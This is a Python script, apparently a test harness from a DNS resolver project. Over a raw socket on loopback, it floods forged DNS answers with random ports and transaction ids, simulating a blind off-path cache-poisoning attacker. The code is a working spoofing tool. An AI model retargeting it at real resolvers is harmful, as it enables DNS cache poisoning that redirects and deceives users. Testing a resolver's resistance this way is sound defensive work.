"""Sends forged replies to an address as if they came from a nameserver, as fast as it can: what an attacker off the
path can do who knows the nameserver, the client's address and the names that are asked, but no port and no id.

    python off_path_forger.py PORT_OF_THE_NAMESERVER COUNT NAMES

Needs the right to send raw packets. Writes how many were sent and the seconds it took.
"""

from __future__ import annotations

import errno
import os
import socket
import struct
import sys
import time

from aioresolver.wire.message import Message, Question, Record

ADDRESS = "127.0.0.1"
PROTOCOL = 17
BATCH = 4096
NO_ROOM = {errno.EAGAIN, errno.ENOBUFS}


def forged(name: str) -> bytes:
    """A reply without its id."""
    record = Record.parse(f"{name}. 300 A 203.0.113.66")
    return Message.query(Question.parse(name)).reply(flags=0x0080, answer=(record,)).to_wire()[2:]


def main(port: int, count: int, names: int) -> None:
    """Send them."""
    payloads = [forged(f"h{number}.test") for number in range(names)]
    heads = [struct.pack("!H", 8 + 2 + len(payload)) + b"\0\0" for payload in payloads]
    source = struct.pack("!H", port)
    began = time.monotonic()
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, PROTOCOL) as raw:
        raw.bind((ADDRESS, 0))
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        while sent < count:
            guesses = os.urandom(4 * BATCH)
            for place in range(0, 4 * BATCH, 4):
                which = sent % names
                target, number = guesses[place : place + 2], guesses[place + 2 : place + 4]
                packet = b"".join((source, target, heads[which], number, payloads[which]))
                try:
                    raw.sendto(packet, (ADDRESS, 0))
                except OSError as error:
                    if error.errno not in NO_ROOM:
                        raise
                sent += 1
    print(sent, round(time.monotonic() - began, 3))


if __name__ == "__main__":
    main(*map(int, sys.argv[1:4]))
